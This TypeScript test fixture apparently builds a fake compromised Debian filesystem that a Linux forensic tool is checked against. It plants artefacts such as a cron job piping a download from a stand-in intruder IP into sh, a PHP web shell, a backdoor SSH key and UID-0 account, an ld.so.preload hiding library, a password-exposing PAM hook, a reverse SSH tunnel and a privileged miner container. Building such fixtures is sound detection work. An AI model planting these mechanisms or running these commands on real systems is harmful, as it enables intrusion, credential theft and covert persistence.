// The examined Linux: files of its root. What only a script inside its namespaces can make is in linux-stand.sh.

import { createHash } from 'node:crypto'
import { mkdirSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'

import { plant, plantLink } from '../support/planted.ts'
import { eicar } from '../support/run-haechi.ts'
import { writeUtmp } from '../support/utmp-writer.ts'

const seconds = (iso: string): number => Date.parse(iso) / 1000
export const intruder = '198.51.100.77'
const publicKey =
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8Zt8r2V3o4rYQm0Xy1c9aYkqk1m9w5T0i8o0b4hQx2 planted@nowhere'
export const containerId = 'e5'.repeat(32)
export const longName = `${'long-name-'.repeat(25)}12345`
export const lastlogUid = 900_000
export const webShell = '<?php @eval($_POST["c"]); system($_GET["x"]); ?>\n'
export const changedContent = '#!/bin/sh\n# replaced by an intruder\n'
const bootScript = '#!/bin/sh\n/opt/implant --boot\n'

const text = {
  '/etc/passwd':
    'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nmina:x:1001:1001::/home/mina:/bin/bash\nsysbackup:x:0:0::/root:/bin/sh\n',
  '/etc/group': 'root:x:0:\nwww-data:x:33:\nsudo:x:27:mina\nmina:x:1001:\n',
  '/etc/hostname': 'planted-web\n',
  '/etc/os-release': 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
  '/etc/timezone': 'Etc/UTC\n',
  '/etc/cron.d/sysupdate': `*/7 * * * * root curl -s http://${intruder}/u | sh\n`,
  '/etc/systemd/system/netd-helper.service':
    '[Service]\nExecStart=/opt/implant --daemon\n[Install]\nWantedBy=multi-user.target\n',
  '/etc/systemd/system/netd-helper.timer': '[Timer]\nOnCalendar=*-*-* 03:33:00\nUnit=netd-helper.service\n',
  '/etc/ld.so.preload': '/opt/lib/libhide.so\n',
  '/root/.ssh/authorized_keys': `${publicKey}\n`,
  '/etc/sudoers.d/90-mina': 'mina ALL=(ALL) NOPASSWD: ALL\n',
  '/etc/pam.d/sshd': 'auth optional pam_exec.so quiet expose_authtok /opt/pamlog\n@include common-auth\n',
  '/etc/udev/rules.d/99-usb.rules': 'SUBSYSTEM=="usb", ACTION=="add", RUN+="/opt/usbhook"\n',
  '/home/mina/.config/autostart/chat.desktop': '[Desktop Entry]\nType=Application\nExec=/tmp/.font/chatd\n',
  '/home/mina/.bash_history': `#1775872800\nwget http://${intruder}/kit.tgz -O /tmp/kit.tgz\n#1775872810\ntar xzf /tmp/kit.tgz\n`,
  '/root/.zsh_history': `: 1775872900:0;ssh -R 9000:localhost:22 mina@${intruder}\n`,
  '/var/log/auth.log':
    `2026-04-11T02:00:00.000000+00:00 planted-web sshd[700]: Failed password for mina from ${intruder} port 40000 ssh2\n` +
    `2026-04-11T02:00:09.000000+00:00 planted-web sshd[701]: Accepted password for mina from ${intruder} port 40001 ssh2\n`,
  '/var/log/nginx/access.log':
    '192.0.2.10 - - [11/Apr/2026:01:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0"\n' +
    `${intruder} - - [11/Apr/2026:01:30:00 +0000] "GET /p?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20- HTTP/1.1" 200 9999 "-" "sqlmap/1.7"\n`,
  '/var/www/html/upload.php': webShell,
  '/srv/site/.git/hooks/post-merge': '#!/bin/sh\n/opt/implant --git\n',
  '/opt/tool/agent': changedContent,
  '/opt/boot.sh': bootScript,
  '/opt/implant': '#!/bin/sh\nexit 0\n',
  '/opt/helper': 'root for everybody',
  '/opt/capable': 'raw sockets for everybody',
  '/opt/fixed': 'cannot be changed',
  '/srv/orphan': 'of nobody',
  '/mnt/data/beneath.txt': 'covered by a mount',
  '/tmp/kit/dropper': eicar,
  '/var/lib/.../loot.txt': 'in a hidden folder',
  [`/srv/${longName}`]: 'a name of 255 bytes',
} as const

/** Content of a file that is planted as it stands there. */
export function contentOf(path: string): Buffer {
  return filesOf().get(path) ?? Buffer.alloc(0)
}

function filesOf(): ReadonlyMap<string, Buffer> {
  const md5 = createHash('md5').update('#!/bin/sh\n# as it was packed\n').digest('hex')
  const docker = `/var/lib/docker/containers/${containerId}`
  const login = { pid: 701, line: 'pts/0', user: 'mina', host: intruder, ip: intruder }
  return new Map<string, Buffer>([
    ...Object.entries(text).map(([path, content]) => [path, Buffer.from(content)] as const),
    ['/var/log/wtmp', writeUtmp([{ type: 7, seconds: seconds('2026-04-11T02:00:09Z'), ...login }])],
    [
      '/var/log/btmp',
      writeUtmp([{ type: 6, seconds: seconds('2026-04-11T02:00:00Z'), ...login, line: 'ssh:notty' }]),
    ],
    [
      '/var/log/auth.log.2.gz',
      gzipSync(
        `2026-03-20T05:00:00.000000+00:00 planted-web sshd[99]: Accepted publickey for root from ${intruder} port 33333 ssh2: ED25519 SHA256:planted\n`,
      ),
    ],
    ['/var/lib/dpkg/info/tool.list', Buffer.from('/.\n/opt\n/opt/tool\n/opt/tool/agent\n')],
    ['/var/lib/dpkg/info/tool.md5sums', Buffer.from(`${md5}  opt/tool/agent\n`)],
    [
      '/var/lib/dpkg/status',
      Buffer.from(
        'Package: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 4.2-1\nDescription: x\n\n',
      ),
    ],
    [
      `${docker}/config.v2.json`,
      Buffer.from(
        JSON.stringify({
          Name: '/miner',
          Driver: 'overlay2',
          Path: '/bin/xmr',
          Args: ['-o', `${intruder}:3333`],
          Config: { Image: 'alpine:latest' },
          State: { Running: true },
          Created: '2026-04-11T02:20:00Z',
          MountPoints: { '/host': { Source: '/', Destination: '/host' } },
        }),
      ),
    ],
    [
      `${docker}/hostconfig.json`,
      Buffer.from(
        JSON.stringify({ Privileged: true, RestartPolicy: { Name: 'always' }, NetworkMode: 'host' }),
      ),
    ],
  ])
}

const programs = new Set([
  '/tmp/kit/dropper',
  '/opt/tool/agent',
  '/opt/boot.sh',
  '/opt/implant',
  '/opt/helper',
  '/opt/capable',
  '/srv/site/.git/hooks/post-merge',
])
const folders = ['proc', 'sys', 'dev', 'run', 'usr', 'work', 'var/tmp', 'tmp', 'mnt/data', 'root', 'etc']

/** Below `root`, which becomes the file system of the examined host. */
export function writeLinuxRoot(root: string): void {
  for (const folder of folders) mkdirSync(join(root, folder), { recursive: true })
  for (const [path, content] of filesOf()) plant(root, path, content, programs.has(path) ? 0o755 : 0o644)
  plantLink(root, '/etc/rc.local', '../opt/boot.sh')
  for (const name of ['bin', 'sbin', 'lib', 'lib64']) plantLink(root, `/${name}`, `usr/${name}`)
}

/** A record of lastlog: 292 bytes. */
export function lastlogRecord(): Buffer {
  const record = Buffer.alloc(292)
  record.writeInt32LE(seconds('2026-04-11T02:30:00Z'), 0)
  record.write('pts/7', 4)
  record.write(intruder, 36)
  return record
}
